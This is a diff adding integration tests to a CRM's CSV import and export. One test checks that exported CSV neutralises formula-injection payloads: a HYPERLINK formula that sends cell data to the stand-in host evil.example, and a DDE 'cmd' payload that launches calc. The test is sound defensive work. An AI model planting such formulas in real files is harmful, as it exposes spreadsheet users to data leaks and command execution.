@@ -94,6 +94,11 @@ describe('imports in the background', () => {
     const existing = (await manager.post('/api/v1/records/contacts', { last_name: `Дубль-${x}`, phone: '+7 (900) 555-01-02', title: 'Old', department: null })).body.data;
     const csv = `last_name,phone,title,department\nДубль-${x},8 900 555 01 02,New,Sales\nНовый-${x},8 900 555 99 99,,\nНовый-${x},+7 900 555-99-99,Second,\n`;
     const dup = (mode: string) => ({ duplicates: JSON.stringify({ mode, match_on: ['phone'] }) });
+    // Amounts and moments are not compared as their text says (1234.5 / 1234.50): refused before any row is read.
+    for (const field of ['annual_revenue', 'created_at']) {
+      const refused = await post(manager, '/api/v1/imports', { name: 'c.csv', content: csv }, { module: 'accounts', duplicates: JSON.stringify({ mode: 'overwrite', match_on: [field] }) });
+      expect([refused.status, Object.keys(refused.body.error.fields)], field).toEqual([400, ['match_on']]);
+    }
     const skip = await runToEnd(manager, 'contacts', { name: 'c.csv', content: csv }, dup('skip'));
     // The second "Новый" is a duplicate of the first one of the same file.
     expect(skip).toMatchObject({ created: 1, skipped: 2, updated: 0 });
@@ -259,6 +264,23 @@ describe('imports in the background', () => {
     } finally {
       await manager.patch(`/api/v1/users/${t.users.manager}`, { time_zone: null });
     }
+  });
+
+  it('an exported CSV holds no live formula, and imports back as it was', async () => {
+    const x = tag();
+    const evil = '=HYPERLINK("http://evil.example/?"&A2,"Click")';
+    const made = await manager.post('/api/v1/records/contacts', { first_name: evil, last_name: `Формула-${x}`, phone: '+7 (912) 345-67-89', description: '-2+3+cmd|\' /C calc\'!A0' });
+    expect(made.status, made.raw).toBe(201);
+    const csv = (await manager.get(`/api/v1/records/contacts/export?format=csv&fields=first_name,last_name,phone,description&filter[last_name]=${encodeURIComponent(`Формула-${x}`)}`)).raw;
+    const line = csv.replace(/^\ufeff/, '').trim().split(/\r?\n/)[1];
+    // A spreadsheet shows these as text; the phone number stays a phone number.
+    expect(line).toContain(`"'=HYPERLINK(""http://evil.example/?""&A2,""Click"")"`);
+    expect(line).toContain("'-2+3+cmd|' /C calc'!A0");
+    expect(line).toContain(',+7 (912) 345-67-89,');
+    const again = csv.replace(`Формула-${x}`, `Снова-${x}`);
+    expect(await runToEnd(manager, 'contacts', { name: 'back.csv', content: again })).toMatchObject({ created: 1, failed: 0 });
+    const [back] = await find(manager, 'contacts', `filter[last_name]=${encodeURIComponent(`Снова-${x}`)}&fields=first_name,phone,description`);
+    expect([back.first_name, back.phone, back.description]).toEqual([evil, '+7 (912) 345-67-89', "-2+3+cmd|' /C calc'!A0"]);
   });
 
   it('reads dates month first when the file writes them so (12/31/2026, 5/1/2026 2:30 PM); day first otherwise', async () => {
